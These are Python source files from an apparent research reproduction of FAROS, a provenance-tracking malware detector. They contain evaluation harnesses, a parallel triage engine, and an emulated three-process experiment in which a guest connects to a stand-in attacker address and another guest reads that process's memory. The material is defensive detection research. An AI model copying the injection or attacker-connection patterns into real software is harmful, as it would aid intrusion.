    result: Optional[TriageResult] = None


def select_corpus_samples(limit: Optional[int] = None) -> List[SampleSpec]:
    """The corpus roster, family-balanced when *limit* trims it.

    With *limit*, the first variant of every family (malware and
    benign) comes first, then further variants -- so quick runs still
    cover every behaviour composition.
    """
    samples = corpus_samples()
    if limit is None:
        return samples
    seen_families = set()
    firsts, rest = [], []
    for spec in samples:
        if spec.family in seen_families:
            rest.append(spec)
        else:
            seen_families.add(spec.family)
            firsts.append(spec)
    return (firsts + rest)[:limit]


def corpus_fp_experiment(
    limit: Optional[int] = None, jobs: int = 1,
    timeout: Optional[float] = None, metrics: bool = False,
    taint_pipeline: Optional[str] = None,
) -> List[CorpusResult]:
    """E8: the 90-malware + 14-benign corpus.  Expected: zero flags.

    The bench runs all 104; unit tests pass a *limit* for a
    family-balanced subset (see :func:`select_corpus_samples`).
    """
    samples = select_corpus_samples(limit)
    results = run_triage(
        corpus_jobs(samples, metrics=metrics, taint_pipeline=taint_pipeline),
        jobs=jobs, timeout=timeout,
    )
    return [
        CorpusResult(
            sample=spec,
            flagged=r.verdict,
            exit_code=r.exit_code,
            error=r.error,
            result=r,
        )
        for spec, r in zip(samples, results)
    ]


def fp_rate(flag_count: int, total: int) -> float:
    """False-positive rate as a percentage."""
    return 100.0 * flag_count / total if total else 0.0


# ----------------------------------------------------------------------
# E9: Table V (performance overhead)
# ----------------------------------------------------------------------

#: The paper's Table V applications, mapped to our corpus behaviours.
#: Each gets extra compute rounds so replay time is dominated by
#: executed instructions rather than machine setup, with the heavier
#: RATs doing proportionally more work (matching the paper's
#: observation that complex behaviour costs more under FAROS).
OVERHEAD_APPS: Tuple[Tuple[str, Tuple[str, ...]], ...] = (
    ("Skype", ("idle", "run", "audio_record") + ("run",) * 8),
    ("Team Viewer", ("idle", "run", "remote_desktop") + ("run",) * 8),
    ("Bozok", ("idle", "run", "audio_record", "file_transfer", "keylogger", "remote_desktop") + ("run",) * 16),
    ("Spygate", ("idle", "run", "audio_record", "keylogger", "remote_desktop", "upload", "download") + ("run",) * 20),
    ("Pandora", ("idle", "run", "audio_record", "file_transfer", "keylogger", "remote_desktop", "upload") + ("run",) * 24),
    ("Remote Utility", ("idle", "run", "file_transfer", "remote_desktop", "download") + ("run",) * 12),
)


@dataclass
class OverheadRow:
    """One Table V row: replay cost without vs. with FAROS."""

    application: str
    replay_seconds: float
    faros_seconds: float
    instructions: int

    @property
    def slowdown(self) -> float:
        return self.faros_seconds / self.replay_seconds if self.replay_seconds else 0.0


def overhead_experiment(repeat: int = 3) -> List[OverheadRow]:
    """E9: wall-clock replay cost with and without the FAROS plugin.

    Machine construction happens outside the timed window -- the
    measured quantity is replay *execution*, matching how the paper
    times PANDA replays.  Absolute numbers depend on the host; the
    paper-shape claims are (a) FAROS is a multi-x slowdown on every
    workload and (b) overhead grows with behavioural complexity.
    """
    rows = []
    for app, behaviors in OVERHEAD_APPS:
        scenario = build_sample_scenario(
            app, behaviors, variant=0, max_instructions=2_000_000
        )

        def plain():
            machine = scenario.build(())
            start = time.perf_counter()
            machine.run(scenario.max_instructions)
            return time.perf_counter() - start

        insns_box = {}

        def with_faros():
            faros = Faros()
            machine = scenario.build((faros,))
            start = time.perf_counter()
            machine.run(scenario.max_instructions)
            insns_box["n"] = faros.tracker.stats.instructions
            return time.perf_counter() - start

        plain_time = _best_time(plain, repeat)
        faros_time = _best_time(with_faros, repeat)
        rows.append(
            OverheadRow(
                application=app,
                replay_seconds=plain_time,
                faros_seconds=faros_time,
                instructions=insns_box.get("n", 0),
            )
        )
    return rows


def _best_time(fn: Callable[[], float], repeat: int) -> float:
    """Best (minimum) of *repeat* timed runs.  *fn* measures one run and
    returns its seconds -- machine construction stays outside the timed
    window, matching how the paper times PANDA replays."""
    return min(fn() for _ in range(max(repeat, 1)))


# ----------------------------------------------------------------------
# E10: comparison with CuckooBox (§VI-B)
# ----------------------------------------------------------------------

@dataclass
class ComparisonRow:
    """One attack's outcome across the three tools."""

    attack: str
    transient: bool
    faros_detects: bool
    faros_has_netflow: bool
    faros_has_provenance: bool
    cuckoo_detects: bool
    malfind_detects: bool
    error: Optional[str] = None
    result: Optional[TriageResult] = None


#: The §VI-B attack classes (persistent first, transient variants after).
COMPARISON_CASES: Tuple[Tuple[str, bool], ...] = (
    ("reflective_dll_inject", False),
    ("process_hollowing", False),
    ("code_injection", False),
    ("reflective_dll_inject", True),
    ("process_hollowing", True),
    ("code_injection", True),
)


def comparison_matrix(
    include_transient: bool = True, jobs: int = 1,
    timeout: Optional[float] = None, metrics: bool = False,
    taint_pipeline: Optional[str] = None,
) -> List[ComparisonRow]:
    """E10: FAROS vs Cuckoo vs Cuckoo+malfind on the attack classes."""
    cases = [c for c in COMPARISON_CASES if include_transient or not c[1]]
    results = run_triage(
        comparison_jobs(cases, metrics=metrics, taint_pipeline=taint_pipeline),
        jobs=jobs, timeout=timeout,
    )
    return [
        ComparisonRow(
            attack=name,
            transient=transient,
            faros_detects=r.verdict,
            faros_has_netflow=bool(r.extra.get("has_netflow")),
            faros_has_provenance=bool(r.extra.get("has_provenance")),
            cuckoo_detects=bool(r.extra.get("cuckoo_detects")),
            malfind_detects=bool(r.extra.get("malfind_detects")),
            error=r.error,
            result=r,
        )
        for (name, transient), r in zip(cases, results)
    ]
