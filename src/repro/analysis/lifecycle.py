"""Fig. 4: the life cycle of a byte, as a provenance list.

The paper's Fig. 4 illustrates what a provenance list captures: "data
comes in from network and goes to Process 1.  Next, it goes to Process
2, and then it is written into File 1, which is read by Process 3."

This experiment stages exactly that flow with three guest processes:

* ``courier.exe`` (P1) receives the data from the network;
* ``broker.exe`` (P2) pulls it out of P1's memory with
  ``NtReadVirtualMemory`` and persists it to ``C:\\file1.dat``;
* ``consumer.exe`` (P3) reads the file back.

and then asserts/renders the resulting chronologies: the bytes in P2's
buffer read ``NetFlow -> P1 -> P2 -> File1`` and the bytes in P3's
buffer read ``File1 -> P3``, with the file-lineage record splicing the
two at File1 -- the complete Fig. 4 river.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

from repro.attacks.common import (
    ATTACKER_IP,
    ATTACKER_PORT,
    FIRST_EPHEMERAL_PORT,
    GUEST_IP,
    assemble_image,
)
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent, Scenario
from repro.faros import Faros
from repro.isa.cpu import AccessKind
from repro.taint.tags import TagType

PAYLOAD = b"fig4 byte lifecycle!"
FILE1 = "C:\\\\file1.dat"

_COURIER = f"""
start:
    movi r0, SYS_SOCKET
    syscall
    mov r7, r0
    mov r1, r7
    movi r2, src_ip
    movi r3, {ATTACKER_PORT}
    movi r0, SYS_CONNECT
    syscall
    movi r4, buf
    movi r5, {len(PAYLOAD)}
rx:
    mov r1, r7
    mov r2, r4
    mov r3, r5
    movi r0, SYS_RECV
    syscall
    add r4, r4, r0
    sub r5, r5, r0
    cmpi r5, 0
    jnz rx
park:
    movi r1, 1000000
    movi r0, SYS_SLEEP
    syscall
    hlt
src_ip: .asciz "{ATTACKER_IP}"
buf: .space {len(PAYLOAD)}
"""

_BROKER = """
start:
    ; wait until the courier has the data
    movi r1, 40000
    movi r0, SYS_SLEEP
    syscall
    movi r1, courier
    movi r0, SYS_FIND_PROCESS
    syscall
    mov r1, r0
    movi r0, SYS_OPEN_PROCESS
    syscall
    mov r1, r0
    movi r2, {courier_buf}
    movi r3, buf
    movi r4, {size}
    movi r0, SYS_READ_VM
    syscall
    ; persist to File 1
    movi r1, file1
    movi r0, SYS_CREATE_FILE
    syscall
    mov r1, r0
    movi r2, buf
    movi r3, {size}
    movi r0, SYS_WRITE_FILE
    syscall
park:
    movi r1, 1000000
    movi r0, SYS_SLEEP
    syscall
    hlt
courier: .asciz "courier.exe"
file1: .asciz "{file1}"
buf: .space {size}
"""

_CONSUMER = """
start:
    movi r1, 80000
    movi r0, SYS_SLEEP
    syscall
    movi r1, file1
    movi r0, SYS_OPEN_FILE
    syscall
    mov r1, r0
    movi r2, buf
    movi r3, {size}
    movi r0, SYS_READ_FILE
    syscall
    ; touch the bytes so the access is instruction-level too
    movi r1, buf
    ldb r2, [r1]
park:
    movi r1, 1000000
    movi r0, SYS_SLEEP
    syscall
    hlt
file1: .asciz "{file1}"
buf: .space {size}
"""


@dataclass
class LifecycleResult:
    """The Fig. 4 chronologies, rendered and structured."""

    broker_chronology: List[str]   # tag descriptions, oldest first
    consumer_chronology: List[str]
    stitched_river: List[str]      # full NetFlow->P1->P2->File1->P3 chain
    payload_intact: bool


def byte_lifecycle_experiment() -> LifecycleResult:
    """Run the three-process flow and extract the provenance river."""
    courier_prog = assemble_image(_COURIER)
    broker_src = _BROKER.format(
        courier_buf=courier_prog.label("buf"), size=len(PAYLOAD), file1=FILE1
    )
    consumer_src = _CONSUMER.format(size=len(PAYLOAD), file1=FILE1)

    faros = Faros()

    def setup(machine):
        machine.kernel.register_image("courier.exe", courier_prog)
        machine.kernel.register_image("broker.exe", assemble_image(broker_src))
        machine.kernel.register_image("consumer.exe", assemble_image(consumer_src))
        machine.kernel.spawn("courier.exe")
        machine.kernel.spawn("broker.exe")
        machine.kernel.spawn("consumer.exe")

    scenario = Scenario(
        name="fig4_lifecycle",
        setup=setup,
        events=[
            (
                15_000,
                PacketEvent(
                    Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP,
                           FIRST_EPHEMERAL_PORT, PAYLOAD)
                ),
            )
        ],
        max_instructions=400_000,
    )
    machine = scenario.run(plugins=[faros])

    broker = next(p for p in machine.kernel.processes.values() if p.name == "broker.exe")
    consumer = next(
        p for p in machine.kernel.processes.values() if p.name == "consumer.exe"
    )
    broker_prog = machine.kernel.image_program("broker.exe")
    consumer_prog = machine.kernel.image_program("consumer.exe")

    broker_paddr = broker.aspace.translate(broker_prog.label("buf"), AccessKind.READ)
    consumer_paddr = consumer.aspace.translate(
        consumer_prog.label("buf"), AccessKind.READ
    )
    broker_prov = faros.tracker.prov_at(broker_paddr)
    consumer_prov = faros.tracker.prov_at(consumer_paddr)

    describe = faros.tags.describe
    report = faros.report()

    # Splice the full river: the consumer's file tag points back into
    # the broker's recorded write provenance.
    stitched: List[str] = []
    for tag in consumer_prov:
        if tag.type is TagType.FILE:
            payload = faros.tags.file_payload(tag)
            upstream = report.origin_of_file(payload.name, payload.version)
            stitched.extend(describe(t) for t in upstream)
            stitched.append(describe(tag))
        else:
            stitched.append(describe(tag))

    consumer_bytes = bytes(
        machine.memory.read_byte(
            consumer.aspace.translate(consumer_prog.label("buf") + i, AccessKind.READ)
        )
        for i in range(len(PAYLOAD))
    )
    return LifecycleResult(
        broker_chronology=[describe(t) for t in broker_prov],
        consumer_chronology=[describe(t) for t in consumer_prov],
        stitched_river=stitched,
        payload_intact=consumer_bytes == PAYLOAD,
    )


def render_lifecycle(result: LifecycleResult) -> str:
    lines = [
        "Fig. 4 -- the life cycle of a byte, as provenance",
        "broker buffer   : " + " -> ".join(result.broker_chronology),
        "consumer buffer : " + " -> ".join(result.consumer_chronology),
        "stitched river  : " + " -> ".join(result.stitched_river),
        f"payload intact  : {result.payload_intact}",
    ]
    return "\n".join(lines)
