"""Parallel batch-triage engine with fault isolation.

The paper's evaluation (§VI, Tables II-V) analyses 100+ samples one at
a time; at production scale a triage fleet must run many analyses
concurrently and survive individual samples wedging or crashing.  This
module provides that layer:

* a **work unit** is a :class:`TriageJob` -- a picklable descriptor
  (kind + builder kwargs, never live machines/scenarios) that a worker
  resolves against :data:`JOB_KINDS` and executes via the deterministic
  record/replay substrate;
* :func:`run_triage` shards jobs across a ``multiprocessing`` worker
  pool with a per-sample wall-clock **timeout** and **bounded retry**
  on worker crash -- a sample that times out, or whose worker dies on
  every attempt, becomes an ``ERROR`` :class:`TriageResult` row while
  the rest of the batch completes;
* every outcome is a serializable :class:`TriageResult` (verdict,
  provenance-chain summary, exit code, timings, tracker stats) so the
  cross-process result channel is plain data, and the aggregator
  returns results in **submission order** -- parallel output is
  byte-identical to serial.

``jobs=1`` short-circuits to an in-process serial loop (no pool is
spawned); because both paths run the same :func:`execute_job` code on
the same job descriptors, verdicts and rendered tables cannot drift
between them.  See ``docs/triage_engine.md``.
"""

from __future__ import annotations

import importlib
import multiprocessing
import operator
import os
import signal
import threading
import time
from collections import deque
from contextlib import nullcontext
from dataclasses import dataclass, field
from functools import partial
from multiprocessing.connection import wait as _connection_wait
from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple

from repro.attacks import (
    build_bypassuac_injection_scenario,
    build_code_injection_scenario,
    build_process_hollowing_scenario,
    build_reflective_dll_scenario,
    build_reverse_tcp_dns_scenario,
)
from repro.baselines import CuckooSandbox
from repro.emulator.record_replay import record, replay
from repro.faults.errors import EmulatorFault, FaultRecord
from repro.faults.plan import FaultPlan
from repro.faults.watchdog import (
    PROGRESS_SLOTS,
    SharedProgressSink,
    read_progress,
    set_progress_sink,
)
from repro.faros import Faros
from repro.faros.report import ProvenanceChain, ReportSummary
from repro.obs.session import ObsSession
from repro.workloads.corpus import SampleSpec
from repro.workloads.jit import build_jit_scenario

STATUS_OK = "OK"
STATUS_ERROR = "ERROR"
#: The sample ran, but a fault cut it short or perturbed it: the report
#: covers a prefix of execution.  Deterministic guest faults land here
#: (not ERROR) and are never retried -- re-running replays the same
#: fault.
STATUS_DEGRADED = "DEGRADED"

#: Retry budget: a job may be re-dispatched this many times after a
#: worker crash before it is written off as an ``ERROR`` row (so the
#: default of 1 means "crashes twice -> ERROR").
DEFAULT_MAX_RETRIES = 1

#: Base delay before re-dispatching a crash-retried job; doubles per
#: additional attempt.  A crashed worker is a *host*-transient fault, so
#: backing off gives transient pressure (OOM killer, fork storms) room
#: to clear instead of immediately re-hitting it.
DEFAULT_RETRY_BACKOFF = 0.05

_POLL_INTERVAL = 0.1


# ----------------------------------------------------------------------
# job descriptors and results (the cross-process wire format)
# ----------------------------------------------------------------------

@dataclass(frozen=True)
class TriageJob:
    """One picklable work unit: a builder name + kwargs, no live objects."""

    job_id: int
    name: str
    kind: str
    params: Dict[str, Any] = field(default_factory=dict)


@dataclass
class JobOutcome:
    """What a job-kind runner returns from inside the worker."""

    verdict: bool
    exit_code: Optional[int] = None
    report: Optional[dict] = None
    instructions: int = 0
    tainted_bytes: int = 0
    extra: Dict[str, Any] = field(default_factory=dict)
    #: Observability snapshot (``ObsSession.snapshot``) when the job ran
    #: with ``metrics=True``; plain data, so it survives the pipe.
    metrics: Optional[dict] = None
    #: Serialized :class:`~repro.faults.errors.FaultRecord` when the run
    #: was faulted (degraded), else None.
    fault: Optional[dict] = None


@dataclass
class TriageResult:
    """Serializable outcome of one job (OK or ERROR, never an exception)."""

    job_id: int
    name: str
    kind: str
    status: str
    verdict: bool
    error: Optional[str] = None
    exit_code: Optional[int] = None
    duration_s: float = 0.0
    attempts: int = 1
    worker_pid: int = 0
    instructions: int = 0
    tainted_bytes: int = 0
    report: Optional[dict] = None
    extra: Dict[str, Any] = field(default_factory=dict)
    metrics: Optional[dict] = None
    #: Serialized fault record for DEGRADED rows (and for ERROR rows
    #: produced by timeouts/crashes, where it carries the watchdog's
    #: last-known guest state), else None.
    fault: Optional[dict] = None

    @property
    def ok(self) -> bool:
        return self.status == STATUS_OK

    @property
    def degraded(self) -> bool:
        return self.status == STATUS_DEGRADED

    def chains(self) -> List[ProvenanceChain]:
        """Provenance chains reconstructed from the serialized report."""
        if not self.report:
            return []
        return ReportSummary.from_json_dict(self.report).chains

    def to_json_dict(self) -> dict:
        """JSON-shaped result row; inverse of :meth:`from_json_dict`."""
        return {
            "job_id": self.job_id,
            "name": self.name,
            "kind": self.kind,
            "status": self.status,
            "verdict": self.verdict,
            "error": self.error,
            "exit_code": self.exit_code,
            "duration_s": self.duration_s,
            "attempts": self.attempts,
            "worker_pid": self.worker_pid,
            "instructions": self.instructions,
            "tainted_bytes": self.tainted_bytes,
            "report": self.report,
            "extra": dict(self.extra),
            "metrics": self.metrics,
            "fault": self.fault,
        }

    @classmethod
    def from_json_dict(cls, d: dict) -> "TriageResult":
        return cls(
            **{k: d[k] for k in (
                "job_id", "name", "kind", "status", "verdict", "error",
                "exit_code", "duration_s", "attempts", "worker_pid",
                "instructions", "tainted_bytes", "report", "extra",
            )},
            metrics=d.get("metrics"),  # absent in pre-observability dicts
            fault=d.get("fault"),      # absent in pre-fault-taxonomy dicts
        )

    def to_dict(self) -> dict:
        """Deprecated alias of :meth:`to_json_dict`."""
        import warnings

        warnings.warn(
            "TriageResult.to_dict is deprecated; use to_json_dict",
            DeprecationWarning, stacklevel=2,
        )
        return self.to_json_dict()

    @classmethod
    def from_dict(cls, d: dict) -> "TriageResult":
        """Deprecated alias of :meth:`from_json_dict`."""
        import warnings

        warnings.warn(
            "TriageResult.from_dict is deprecated; use from_json_dict",
            DeprecationWarning, stacklevel=2,
        )
        return cls.from_json_dict(d)


# ----------------------------------------------------------------------
# job kinds (resolved by name inside the worker)
# ----------------------------------------------------------------------

JOB_KINDS: Dict[str, Callable[..., JobOutcome]] = {}


def job_kind(name: str):
    """Register a runner under *name* so job descriptors can refer to it."""

    def deco(fn):
        JOB_KINDS[name] = fn
        return fn

    return deco


#: Attack-scenario builders by name (the §VI attack roster).  Every
#: builder accepts ``transient=`` so the comparison matrix can reuse it.
ATTACK_BUILDER_REGISTRY: Dict[str, Callable[..., Any]] = {
    "reflective_dll_inject": build_reflective_dll_scenario,
    "reverse_tcp_dns": build_reverse_tcp_dns_scenario,
    "bypassuac_injection": build_bypassuac_injection_scenario,
    "process_hollowing": build_process_hollowing_scenario,
    "code_injection": build_code_injection_scenario,
    "darkcomet_injection": partial(build_code_injection_scenario, rat="darkcomet"),
    "njrat_injection": partial(build_code_injection_scenario, rat="njrat"),
}


def _faros_outcome(faros: Faros, exit_code: Optional[int] = None,
                   extra: Optional[Dict[str, Any]] = None,
                   include_report: bool = True,
                   session: Optional[ObsSession] = None) -> JobOutcome:
    with session.span("report") if session is not None else nullcontext():
        report = faros.report()
        report_dict = report.to_json_dict() if include_report else None
    # One snapshot per job, taken after the report span closes, injected
    # into both the report export and the outcome: ``repro stats`` and
    # the triage JSON channel must show the *same* numbers.
    snap = None
    if session is not None and session.enabled:
        snap = session.snapshot()
        if report_dict is not None:
            report_dict["metrics"] = snap
    return JobOutcome(
        verdict=faros.attack_detected,
        exit_code=exit_code,
        report=report_dict,
        instructions=faros.tracker.stats.instructions,
        tainted_bytes=faros.tracker.shadow.tainted_bytes,
        extra=extra or {},
        metrics=snap,
        fault=(
            faros.fault_record.to_json_dict()
            if faros.fault_record is not None
            else None
        ),
    )


@job_kind("attack")
def _run_attack_job(attack: str, transient: bool = False,
                    metrics: bool = False, sample_every: int = 1,
                    top_blocks: int = 10,
                    taint_pipeline: Optional[str] = None,
                    execution: Optional[str] = None) -> JobOutcome:
    """Record/replay one attack scenario with FAROS attached (§V-C).

    ``execution="warm"`` serves the job through the per-process
    :class:`~repro.serve.pool.SnapshotPool` -- fork-from-snapshot
    instead of a cold boot, bit-identical by the snapshot differential
    harness, degrading back to this cold path (with a ``DegradedPool``
    fault record) when the pool cannot serve.
    """
    session = ObsSession.create(enabled=metrics, sample_every=sample_every,
                                top_blocks=top_blocks)
    if execution == "warm":
        # Imported lazily: repro.serve imports triage at module level,
        # so this edge of the cycle must resolve at call time.
        from repro.serve.pool import warm_attack_outcome

        return warm_attack_outcome(attack, transient=transient,
                                   session=session,
                                   taint_pipeline=taint_pipeline)
    with session.span("boot"):
        builder = ATTACK_BUILDER_REGISTRY[attack]
        scenario = builder(transient=True) if transient else builder()
    with session.span("attack"):
        recording = record(scenario.scenario)
    faros = Faros(metrics=session.registry, taint_pipeline=taint_pipeline)
    with session.span("detection"):
        replay(recording, plugins=session.plugins_for(faros),
               metrics=session.registry)
    return _faros_outcome(faros, session=session)


@job_kind("jit")
def _run_jit_job(name: str, workload: str,
                 metrics: bool = False, sample_every: int = 1,
                 taint_pipeline: Optional[str] = None) -> JobOutcome:
    """One Table III JIT workload (Java applet or AJAX site)."""
    session = ObsSession.create(enabled=metrics, sample_every=sample_every)
    with session.span("boot"):
        sample = build_jit_scenario(name, workload)
    faros = Faros(metrics=session.registry, taint_pipeline=taint_pipeline)
    with session.span("detection"):
        sample.scenario.run(plugins=session.plugins_for(faros),
                            metrics=session.registry)
    return _faros_outcome(
        faros,
        include_report=faros.attack_detected,
        extra={"workload": workload,
               "expected_flag": sample.uses_native_binding},
        session=session,
    )


@job_kind("corpus")
def _run_corpus_job(metrics: bool = False, sample_every: int = 1,
                    taint_pipeline: Optional[str] = None,
                    **params) -> JobOutcome:
    """One Table IV corpus sample, rebuilt from its picklable spec."""
    session = ObsSession.create(enabled=metrics, sample_every=sample_every)
    with session.span("boot"):
        spec = SampleSpec.from_params(**params)
    faros = Faros(metrics=session.registry, taint_pipeline=taint_pipeline)
    with session.span("detection"):
        machine = spec.scenario().run(plugins=session.plugins_for(faros),
                                      metrics=session.registry)
    proc = next(iter(machine.kernel.processes.values()))
    return _faros_outcome(
        faros,
        exit_code=proc.exit_code,
        include_report=faros.attack_detected,
        extra={"family": spec.family, "benign": spec.benign},
        session=session,
    )


@job_kind("comparison")
def _run_comparison_job(attack: str, transient: bool = False,
                        metrics: bool = False, sample_every: int = 1,
                        taint_pipeline: Optional[str] = None) -> JobOutcome:
    """One §VI-B row: the same attack under FAROS, Cuckoo, and malfind."""
    session = ObsSession.create(enabled=metrics, sample_every=sample_every)
    with session.span("boot"):
        builder = ATTACK_BUILDER_REGISTRY[attack]
        attack_obj = builder(transient=transient)
    faros = Faros(metrics=session.registry, taint_pipeline=taint_pipeline)
    with session.span("detection"):
        attack_obj.scenario.run(plugins=session.plugins_for(faros),
                                metrics=session.registry)
    chains = faros.report().chains()
    chain = chains[0] if chains else None

    with session.span("baselines"):
        cuckoo_report = CuckooSandbox().analyze(attack_obj.scenario)
        malfind_detected, _hits = cuckoo_report.detect_injection_with_malfind()
    return _faros_outcome(
        faros,
        extra={
            "transient": transient,
            "has_netflow": bool(chain and chain.netflow),
            "has_provenance": bool(chain and chain.process_chain),
            "cuckoo_detects": cuckoo_report.detect_injection(),
            "malfind_detects": malfind_detected,
        },
        session=session,
    )


@job_kind("chaos")
def _run_chaos_job(attack: str, plan: dict, fault_name: str = "",
                   metrics: bool = False, sample_every: int = 1,
                   taint_pipeline: Optional[str] = None,
                   harness: Optional[str] = None) -> JobOutcome:
    """One chaos-matrix cell: record *attack* under an injected
    :class:`~repro.faults.plan.FaultPlan`, then replay with FAROS.

    The plan travels as its ``to_json_dict`` form so the descriptor
    stays picklable plain data like every other job kind.  Host-layer
    columns name a *harness* instead of carrying plan rules: those
    cells inject the fault around the sample (killing the worker,
    corrupting the snapshot) rather than inside the guest.
    """
    if harness is not None:
        # Imported lazily (serve imports triage at module level).
        from repro.serve.harness import run_harness

        outcome = run_harness(harness, attack, taint_pipeline=taint_pipeline)
        outcome.extra.setdefault("attack", attack)
        outcome.extra.setdefault("fault_name", fault_name)
        return outcome
    session = ObsSession.create(enabled=metrics, sample_every=sample_every)
    fault_plan = FaultPlan.from_json_dict(plan)
    extra = {"attack": attack, "fault_name": fault_name,
             "rules": [r.describe() for r in fault_plan.rules]}
    try:
        with session.span("boot"):
            scenario = fault_plan.apply(ATTACK_BUILDER_REGISTRY[attack]().scenario)
        with session.span("attack"):
            recording = record(scenario)
        # An explicit CLI pipeline choice wins; otherwise the plan's own
        # pipeline fields (folded into MachineConfig by ``apply``) rule.
        faros = Faros(policy=fault_plan.taint_policy(), metrics=session.registry,
                      taint_pipeline=taint_pipeline)
        with session.span("detection"):
            replay(recording, plugins=session.plugins_for(faros),
                   metrics=session.registry)
    except EmulatorFault as exc:
        # A fault outside the machine's run-loop backstop (e.g. a taint
        # budget tripping while the guest *boots*, before run() starts).
        # Still deterministic, still degraded -- just no partial report.
        return JobOutcome(
            verdict=False, extra=extra,
            fault=FaultRecord.from_exception(exc).to_json_dict(),
        )
    return _faros_outcome(faros, extra=extra, session=session)


@job_kind("pyfunc")
def _run_pyfunc_job(target: str, kwargs: Optional[dict] = None) -> JobOutcome:
    """Run ``module:qualname`` with *kwargs* -- the extensibility escape
    hatch (and the fault-injection hook the test suite uses)."""
    modname, _, qualname = target.partition(":")
    fn = operator.attrgetter(qualname)(importlib.import_module(modname))
    value = fn(**(kwargs or {}))
    if isinstance(value, JobOutcome):
        return value
    return JobOutcome(verdict=bool(value))


# ----------------------------------------------------------------------
# job execution (shared by the serial path and the workers)
# ----------------------------------------------------------------------

def _error_result(job: TriageJob, attempts: int, reason: str,
                  duration_s: float = 0.0,
                  fault: Optional[dict] = None) -> TriageResult:
    return TriageResult(
        job_id=job.job_id, name=job.name, kind=job.kind,
        status=STATUS_ERROR, verdict=False, error=reason,
        duration_s=duration_s, attempts=attempts, worker_pid=os.getpid(),
        fault=fault,
    )


def execute_job(job: TriageJob, attempt: int = 1) -> TriageResult:
    """Run one job to a :class:`TriageResult`; exceptions become ERROR
    rows and emulator faults DEGRADED rows (graceful degradation),
    never propagate."""
    start = time.perf_counter()
    try:
        runner = JOB_KINDS[job.kind]
    except KeyError:
        return _error_result(job, attempt, f"unknown job kind {job.kind!r}")
    try:
        outcome = runner(**job.params)
    except EmulatorFault as exc:
        # A guest/emulation fault that escaped the machine's backstop
        # (e.g. raised during scenario construction).  Deterministic:
        # the row is DEGRADED, not ERROR, and is never retried.
        fault = FaultRecord.from_exception(exc)
        return TriageResult(
            job_id=job.job_id, name=job.name, kind=job.kind,
            status=STATUS_DEGRADED, verdict=False,
            error=f"{type(exc).__name__}: {exc}",
            duration_s=time.perf_counter() - start,
            attempts=attempt, worker_pid=os.getpid(),
            fault=fault.to_json_dict(),
        )
    except Exception as exc:  # fault isolation: one bad sample != a dead run
        return _error_result(
            job, attempt, f"{type(exc).__name__}: {exc}",
            duration_s=time.perf_counter() - start,
        )
    # A runner that completed but observed a machine fault produces a
    # DEGRADED row: the report is real but covers a prefix of execution.
    status = STATUS_DEGRADED if outcome.fault is not None else STATUS_OK
    return TriageResult(
        job_id=job.job_id, name=job.name, kind=job.kind,
        status=status, verdict=outcome.verdict,
        exit_code=outcome.exit_code,
        duration_s=time.perf_counter() - start,
        attempts=attempt, worker_pid=os.getpid(),
        instructions=outcome.instructions,
        tainted_bytes=outcome.tainted_bytes,
        report=outcome.report, extra=outcome.extra,
        metrics=outcome.metrics,
        fault=outcome.fault,
    )


# ----------------------------------------------------------------------
# the worker pool
# ----------------------------------------------------------------------

def _mp_context():
    """Fork where available (cheap workers, inherited registries);
    spawn otherwise -- job kinds resolve by import either way."""
    try:
        return multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX hosts
        return multiprocessing.get_context("spawn")


def _worker_main(conn, progress=None) -> None:
    """Worker loop: receive (job, attempt), send back a TriageResult.

    *progress* is the shared watchdog array the parent reads after a
    timeout kill; installing it as the process-global progress sink
    makes every machine this worker runs publish its last-known state
    (instruction count, PC, active syscall) into it.
    """
    if progress is not None:
        set_progress_sink(SharedProgressSink(progress))
    while True:
        try:
            msg = conn.recv()
        except (EOFError, OSError, KeyboardInterrupt):
            return
        if msg is None:
            return
        job, attempt = msg
        result = execute_job(job, attempt=attempt)
        try:
            conn.send(result)
        except (BrokenPipeError, OSError):
            return


class _Worker:
    """One pool member: a process plus the pipe the parent drives it by.

    The parent hands a worker exactly one job at a time, so when the
    process dies or overruns its deadline the parent knows precisely
    which job was in flight.
    """

    def __init__(self, ctx) -> None:
        self.conn, child = ctx.Pipe()
        #: Shared last-known-state array the worker's machines publish
        #: into; survives the worker being killed, which is the point.
        self.progress = ctx.Array("q", PROGRESS_SLOTS, lock=False)
        self.proc = ctx.Process(
            target=_worker_main, args=(child, self.progress), daemon=True
        )
        self.proc.start()
        child.close()
        self.job: Optional[TriageJob] = None
        self.attempt = 0
        self.deadline: Optional[float] = None

    def submit(self, job: TriageJob, attempt: int,
               timeout: Optional[float]) -> None:
        # Clear stale progress so a kill during *this* job can't be
        # attributed guest state from the previous one.
        SharedProgressSink(self.progress).reset()
        self.conn.send((job, attempt))
        self.job, self.attempt = job, attempt
        self.deadline = time.monotonic() + timeout if timeout else None

    def last_progress(self) -> Optional[dict]:
        """Last guest state the worker published, or None if none yet."""
        return read_progress(self.progress)

    def finish(self) -> None:
        self.job, self.attempt, self.deadline = None, 0, None

    def kill(self) -> None:
        try:
            self.proc.kill()
            self.proc.join(timeout=5.0)
        finally:
            self.conn.close()

    def close(self) -> None:
        try:
            self.conn.send(None)
            self.conn.close()
            self.proc.join(timeout=1.0)
        except (BrokenPipeError, OSError):
            pass
        if self.proc.is_alive():  # pragma: no cover - stuck shutdown
            self.proc.kill()
            self.proc.join(timeout=1.0)


def _wait_budget(workers: Sequence[_Worker], now: float) -> float:
    deadlines = [w.deadline - now for w in workers if w.deadline is not None]
    if not deadlines:
        return _POLL_INTERVAL
    return max(0.0, min(min(deadlines), _POLL_INTERVAL))


def _kill_fault(kind: str, detail: str,
                progress: Optional[dict]) -> FaultRecord:
    """A host-side fault record, enriched with the watchdog's last-known
    guest state (published into shared memory, so it survives the kill)."""
    progress = progress or {}
    return FaultRecord(
        kind=kind, detail=detail,
        tick=progress.get("tick"), pc=progress.get("pc"),
        syscall=progress.get("syscall"),
    )


def _run_pool(jobs_list: Sequence[TriageJob], jobs: int,
              timeout: Optional[float], max_retries: int,
              retry_backoff: float,
              drain_timeout: float = 5.0) -> Dict[int, TriageResult]:
    ctx = _mp_context()
    # Entries are (job, attempt, ready_at): a retried job only becomes
    # dispatchable once its backoff delay has elapsed.
    pending = deque((job, 1, 0.0) for job in jobs_list)
    results: Dict[int, TriageResult] = {}
    workers = [_Worker(ctx) for _ in range(max(1, min(jobs, len(jobs_list))))]

